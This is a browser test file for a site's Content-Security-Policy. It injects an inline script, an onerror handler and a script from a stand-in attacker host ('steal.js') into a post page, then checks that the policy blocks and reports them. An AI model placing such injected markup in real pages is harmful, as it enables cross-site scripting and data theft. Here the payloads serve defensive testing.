/**
 * The Content-Security-Policy in Chromium: markup slipped into a post page (an inline script, an inline
 * event handler, a script from elsewhere) runs nothing and is reported; the site's own scripts (search on
 * Pagefind's WebAssembly, the video facade, copy-link) work under the policy without a single refusal; and
 * the referrer policy keeps the page's address to the site, while YouTube's player still learns the origin
 * it needs.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { expect, test } from 'vitest';
import type { BrowserContextOptions, Page } from 'playwright-core';
import { t } from '#site/i18n/id.ts';
import { useBrowser } from '../helpers/browser.ts';
import { usePreviewServer } from '../helpers/preview.ts';
import { carouselPost, topHashtag, videoPost } from '../helpers/targets.ts';
import { REPO_ROOT, sitePaths } from '../helpers/repo.ts';

const preview = usePreviewServer();
const browser = useBrowser();

interface Violation {
  directive: string;
  blocked: string;
}

/** What a page's policy refused: its `securitypolicyviolation` events and Chromium's console lines about it. */
interface PolicyWatch {
  page: Page;
  violations(): Promise<Violation[]>;
  consoleLines: string[];
}

/** Lets late requests finish, checks that the policy refused nothing on the page, and closes it. */
async function closeWithoutRefusal({ page, violations, consoleLines }: PolicyWatch): Promise<void> {
  await settle(page);
  expect(await violations()).toEqual([]);
  expect(consoleLines).toEqual([]);
  await page.context().close();
}

async function watchedPage(options?: BrowserContextOptions): Promise<PolicyWatch> {
  const page = await browser.newPage(options);
  // Init scripts come from the browser's debugging protocol, which a page's policy does not govern.
  await page.addInitScript(() => {
    const seen: { directive: string; blocked: string }[] = [];
    Object.defineProperty(window, '__violations', { value: seen });
    document.addEventListener('securitypolicyviolation', (event) => seen.push({ directive: event.effectiveDirective, blocked: event.blockedURI }));
  });
  const consoleLines: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) consoleLines.push(message.text());
  });
  return { page, consoleLines, violations: () => page.evaluate(() => [...(window as unknown as { __violations: Violation[] }).__violations]) };
}

/** Lets any violation report still queued arrive before the page is judged clean. */
const settle = (page: Page) => page.waitForTimeout(300);

const INJECTED = [
  `<script>window.__pwned = 'inline script';</script>`,
  `<img src="no-such-image.png" alt="" onerror="window.__pwned = 'onerror attribute'">`,
  `<script src="https://attacker.invalid/steal.js"></script>`,
].join('');

/** The post page as built, with markup injected where a caption's text would be. */
async function tamperedPost(pagePath: string, { keepPolicy }: { keepPolicy: boolean }): Promise<string> {
  const html = await (await fetch(preview.url(pagePath))).text();
  const main = /<main\b[^>]*>/.exec(html);
  if (!main) throw new Error(`${pagePath} has no <main>.`);
  let tampered = html.replace(main[0], `${main[0]}${INJECTED}`);
  if (!keepPolicy) tampered = tampered.replace(/<meta http-equiv="content-security-policy"[^>]*>/i, '');
  return tampered;
}

/** Opens the post at `path` as served with injected markup (the rest of the site as built). */
async function openTampered(pagePath: string, keepPolicy: boolean): Promise<PolicyWatch> {
  const watch = await watchedPage();
  const body = await tamperedPost(pagePath, { keepPolicy });
  await watch.page.route(preview.url(pagePath), (route) => route.fulfill({ status: 200, contentType: 'text/html; charset=utf-8', body }));
  await watch.page.route('https://attacker.invalid/**', (route) => route.abort());
  await watch.page.goto(preview.url(pagePath), { waitUntil: 'load' });
  return watch;
}

const pwned = (page: Page) => page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned);

test('injected markup in a post page runs nothing, and the refusals are reported', async () => {
  const { page, violations, consoleLines } = await openTampered(sitePaths.post(videoPost()), true);
  await expect.poll(async () => (await violations()).length, { timeout: 10_000 }).toBeGreaterThanOrEqual(3);
  await settle(page);
  expect(await pwned(page), 'window.__pwned').toBeUndefined();
  const refused = await violations();
  expect(refused.map((violation) => violation.directive).sort()).toEqual(['script-src-attr', 'script-src-elem', 'script-src-elem']);
  expect(refused.map((violation) => violation.blocked)).toEqual(expect.arrayContaining(['inline', 'https://attacker.invalid/steal.js']));
  expect(consoleLines.length, consoleLines.join('\n')).toBeGreaterThanOrEqual(3);
  expect(consoleLines.some((line) => /inline script.*blocked/s.test(line)), consoleLines.join('\n')).toBe(true);
  expect(consoleLines.some((line) => /inline event handler.*blocked/s.test(line)), consoleLines.join('\n')).toBe(true);
  // The site's own script on the same page still runs: the facade still swaps in the player.
  await page.route(/^https:\/\/www\.youtube-nocookie\.com\//, (route) => route.abort());
  await page.locator('.video-facade').click();
  await page.locator('iframe.video-frame').waitFor({ state: 'attached' });
  await page.context().close();
});

test('the same injected markup does run once the policy is taken out (the test above is not vacuous)', async () => {
  const { page } = await openTampered(sitePaths.post(videoPost()), false);
  await expect.poll(() => pwned(page), { timeout: 10_000 }).toBeDefined();
  await page.context().close();
});

test.each([
  ['home', () => sitePaths.home()],
  ['a video post', () => sitePaths.post(videoPost())],
  ['a carousel post', () => sitePaths.post(carouselPost())],
  ['the transparency page', () => sitePaths.transparency()],
  ['the open data page', () => sitePaths.openData()],
])('%s loads without a single refusal', async (_name, pathOf) => {
  const { page, violations, consoleLines } = await watchedPage();
  await page.goto(preview.url(pathOf()), { waitUntil: 'load' });
  await page.waitForLoadState('networkidle');
  await closeWithoutRefusal({ page, violations, consoleLines });
});

test('search works under the policy (Pagefind’s script and WebAssembly), typed and from the address, with no refusal', async () => {
  const query = topHashtag();
  const { page, violations, consoleLines } = await watchedPage();
  await page.goto(preview.url(sitePaths.search()));
  await page.locator('#cari-q').fill(query);
  await page.locator('#search-results .search-result a[href]').first().waitFor({ state: 'visible' });
  // Opened with a search, the inline script in the <head> preloads Pagefind's files first.
  await page.goto(preview.url(`${sitePaths.search()}?q=${encodeURIComponent(query)}`));
  await page.locator('#search-results .search-result a[href]').first().waitFor({ state: 'visible' });
  expect(await page.locator('link[rel="modulepreload"][href*="/pagefind/"]').count(), 'the early fetch ran').toBe(1);
  await settle(page);
  expect(await violations()).toEqual([]);
  expect(consoleLines).toEqual([]);

  // A result followed is asked for without a Referer: the site keeps even its own addresses to itself.
  const navigation = page.waitForRequest((request) => request.isNavigationRequest());
  await page.locator('#search-results .search-result a[href]').first().click();
  const headers = await (await navigation).allHeaders();
  expect(headers.referer, 'Referer of a followed result').toBeUndefined();
  await page.context().close();
});

/**
 * The search page with its own policy also sent as a header, as a host that sets headers might: then the
 * policy governs the page from its first byte, including the inline script and <noscript> style in the
 * <head> that come before Astro's <meta> (which governs only what follows it). Their hashes must hold.
 */
async function routeSearchWithPolicyHeader(page: Page): Promise<void> {
  const html = await (await fetch(preview.url(sitePaths.search()))).text();
  const policy = /<meta http-equiv="content-security-policy" content="([^"]*)"/i.exec(html)?.[1];
  if (!policy) throw new Error('The search page has no policy <meta>.');
  await page.route(
    (url) => url.pathname === sitePaths.search(),
    (route) => route.fulfill({ status: 200, headers: { 'content-type': 'text/html; charset=utf-8', 'content-security-policy': policy }, body: html }),
  );
}

test('with the policy as a header too, the search page’s inline early fetch still runs', async () => {
  const query = topHashtag();
  const { page, violations, consoleLines } = await watchedPage();
  await routeSearchWithPolicyHeader(page);
  await page.goto(preview.url(`${sitePaths.search()}?q=${encodeURIComponent(query)}`));
  await page.locator('#search-results .search-result a[href]').first().waitFor({ state: 'visible' });
  expect(await page.locator('link[rel="modulepreload"][href*="/pagefind/"]').count(), 'the early fetch ran').toBe(1);
  await closeWithoutRefusal({ page, violations, consoleLines });
});

test('with the policy as a header too and JavaScript off, the search page’s <noscript> style still hides the form', async () => {
  const page = await browser.newPage({ javaScriptEnabled: false });
  const consoleLines: string[] = [];
  page.on('console', (message) => void consoleLines.push(message.text()));
  await routeSearchWithPolicyHeader(page);
  await page.goto(preview.url(sitePaths.search()), { waitUntil: 'load' });
  expect(await page.locator('noscript a[href]').first().isVisible(), 'the <noscript> links show').toBe(true);
  expect(await page.locator('.search-panel').isVisible(), 'the search form').toBe(false);
  expect(consoleLines.filter((line) => /Content Security Policy/i.test(line))).toEqual([]);
  await page.context().close();
});

test('the video facade swaps in the youtube-nocookie player, which is told the site’s origin and nothing more', async () => {
  const post = videoPost();
  const { page, violations, consoleLines } = await watchedPage();
  const referers: (string | undefined)[] = [];
  // The network is closed: the player's address answers with a stand-in page.
  await page.route(/^https:\/\/www\.youtube-nocookie\.com\//, async (route) => {
    referers.push((await route.request().allHeaders()).referer);
    await route.fulfill({ status: 200, contentType: 'text/html', body: '<!doctype html><title>player</title>' });
  });
  await page.goto(preview.url(sitePaths.post(post)), { waitUntil: 'load' });
  await page.locator('.video-facade').click();
  const frame = page.locator('iframe.video-frame');
  await frame.waitFor({ state: 'attached' });
  expect(new URL((await frame.getAttribute('src'))!).host).toBe('www.youtube-nocookie.com');
  await expect.poll(() => referers.length, { timeout: 10_000 }).toBeGreaterThan(0);
  // YouTube's player refuses to play without a Referer (error 153): the origin, not the post's address.
  expect(referers[0]).toBe(`${preview.origin}/`);
  await closeWithoutRefusal({ page, violations, consoleLines });
});

test('copy-link copies the page’s address under the policy, with no refusal', async () => {
  const post = videoPost();
  const { page, violations, consoleLines } = await watchedPage({ permissions: ['clipboard-read', 'clipboard-write'] });
  await page.goto(preview.url(sitePaths.post(post)), { waitUntil: 'load' });
  const button = page.locator('button.copy-link');
  await button.click();
  await page.locator('.copy-status', { hasText: t.share.copied }).waitFor({ state: 'visible' });
  const copied = await page.evaluate(() => navigator.clipboard.readText());
  expect(copied).toBe(await page.locator('input.share-url').inputValue());
  expect(copied).toMatch(/^https?:\/\//);
  await closeWithoutRefusal({ page, violations, consoleLines });
});

/** The headers docs/security-headers.md tells a host to send, read from its nginx example. */
function guideHeaders(): Record<string, string> {
  const guide = readFileSync(path.join(REPO_ROOT, 'docs/security-headers.md'), 'utf8');
  const headers = Object.fromEntries([...guide.matchAll(/^add_header ([\w-]+) "([^"]+)" always;$/gm)].map(([, name, value]) => [name!.toLowerCase(), value!]));
  expect(Object.keys(headers).sort()).toEqual(['content-security-policy', 'permissions-policy', 'referrer-policy', 'x-content-type-options']);
  return headers;
}

test('with the deploy guide’s headers, a post page still plays and copies, and no other site can frame it', async () => {
  const headers = guideHeaders();
  const postPath = sitePaths.post(videoPost());
  const { page, violations, consoleLines } = await watchedPage({ permissions: ['clipboard-read', 'clipboard-write'] });
  await page.context().route(
    (url) => url.origin === preview.origin,
    async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, headers: { ...response.headers(), ...headers } });
    },
  );
  await page.context().route(/^https:\/\/www\.youtube-nocookie\.com\//, (route) =>
    route.fulfill({ status: 200, contentType: 'text/html', body: '<!doctype html><title>player</title>' }),
  );
  await page.goto(preview.url(postPath), { waitUntil: 'load' });
  await page.locator('button.copy-link').click();
  await page.locator('.copy-status', { hasText: t.share.copied }).waitFor({ state: 'visible' });
  await page.locator('.video-facade').click();
  await page.locator('iframe.video-frame').waitFor({ state: 'attached' });
  await expect.poll(() => page.frames().some((frame) => frame.url().startsWith('https://www.youtube-nocookie.com/')), { timeout: 10_000 }).toBe(true);
  await settle(page);
  expect(await violations()).toEqual([]);
  expect(consoleLines).toEqual([]);

  // Another site showing the archive in a frame gets nothing: frame-ancestors 'none' from the header.
  await page.context().route('http://framer.invalid/', (route) =>
    route.fulfill({ status: 200, contentType: 'text/html', body: `<!doctype html><iframe src="${preview.url(postPath)}"></iframe>` }),
  );
  await page.goto('http://framer.invalid/', { waitUntil: 'load' });
  await expect.poll(() => consoleLines.some((line) => /frame-ancestors/.test(line)), { timeout: 10_000 }).toBe(true);
  expect(page.frames().some((frame) => frame.url() === preview.url(postPath))).toBe(false);
  await page.context().close();
});
